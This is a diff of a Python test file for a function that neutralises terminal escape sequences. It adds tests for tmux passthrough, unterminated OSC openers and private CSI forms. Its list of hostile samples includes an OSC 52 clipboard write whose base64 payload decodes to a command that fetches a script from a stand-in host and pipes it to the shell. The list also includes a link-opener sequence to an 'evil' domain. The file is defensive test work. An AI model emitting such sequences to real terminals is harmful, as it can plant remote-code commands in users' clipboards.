@@ -15,7 +15,6 @@ HOSTILE = {
     "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
     "OSC 8 link opener": "\x1b]8;;https://evil.example/\x1b\\",
     "DCS": '\x1bP$q"p\x1b\\',
-    "DCS tmux passthrough": "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
     "APC": "\x1b_Gf=100;AAAA\x1b\\",
     "PM": "\x1b^private\x1b\\",
     "SOS": "\x1bXstring\x1b\\",
@@ -49,6 +48,38 @@ KEPT = {
     "ASCII set": "\x1b(B",
     "save cursor": "\x1b7",
 }
+
+
+def test_a_tmux_passthrough_loses_every_escape_and_its_clipboard_write() -> None:
+    """A DCS holding an escaped OSC 52 (tmux passthrough) is cut at its inner ESC: the bytes
+    between become plain text, and nothing reaches the terminal as a sequence."""
+    shown = neutralize("before\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\after")
+    assert shown == "beforePtmux;after"
+
+
+def test_many_unterminated_string_starts_are_filtered_in_linear_time() -> None:
+    """64,000 OSC openers with no terminator: the scan does not restart from each of them."""
+    shown = neutralize("\x1b]" * 64_000 + "tail")
+    assert shown == "]" * 64_000 + "tail"
+
+
+@pytest.mark.parametrize(
+    "sequence",
+    [
+        "\x1b[?4m",
+        "\x1b[?u",
+        "\x1b[>31u",
+        "\x1b[=31;1u",
+        "\x1b[?1;1;0S",
+        "\x1b[?1000r",
+        "\x1b[>4;2m",
+        "\x1b[1;1;1;1;1T",
+    ],
+)
+def test_private_forms_of_drawing_finals_are_dropped(sequence: str) -> None:
+    """Queries and keyboard-protocol modes that reuse the finals of drawing sequences."""
+    assert neutralize(f"a{sequence}b") == "ab"
+
 
 NEVER = ("\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x9b", "\x9d", "\x07")
 
